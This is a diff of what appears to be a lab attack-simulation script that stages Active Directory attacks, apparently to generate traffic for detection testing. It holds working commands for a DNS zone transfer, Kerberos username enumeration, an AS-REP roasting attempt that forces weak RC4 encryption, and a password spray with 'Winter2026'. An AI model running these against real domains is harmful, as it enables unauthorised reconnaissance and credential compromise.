@@ -64,6 +64,7 @@ act dns_recon zone_transfer rogue - -- dig AXFR "$DNSDOM" "@${HOSTIP[dc1]}"
 step
 act account_enum kerberos_unknown_users rogue many -- bash -c "for u in adm backup sql helpdesk scanner print test guest1 oracle vpn intern ceo cfo hr sales web ftp mail exch sap svc-backup svc-print admin1 admin2 operator alice bob carol; do echo x | kinit \$u; done"
 step
+# refused: the KDC of the lab insists on pre-authentication, so no reply that could be cracked is on the wire
 act asrep_refused as_rep_roasting rogue nopreauth -- bash -c "sed 's/^\[libdefaults\]/&\n default_tkt_enctypes = arcfour-hmac\n allow_weak_crypto = true/' /etc/krb5.conf >$RH/rc4.conf; echo wrong | KRB5_CONFIG=$RH/rc4.conf kinit nopreauth"
 step
 act password_spray kerberos_spray rogue many -- bash -c "for u in alice bob carol dave erin svc-sql svc-web honey administrator nopreauth; do echo Winter2026 | kinit \$u; done; $(kin frank "$PW")"
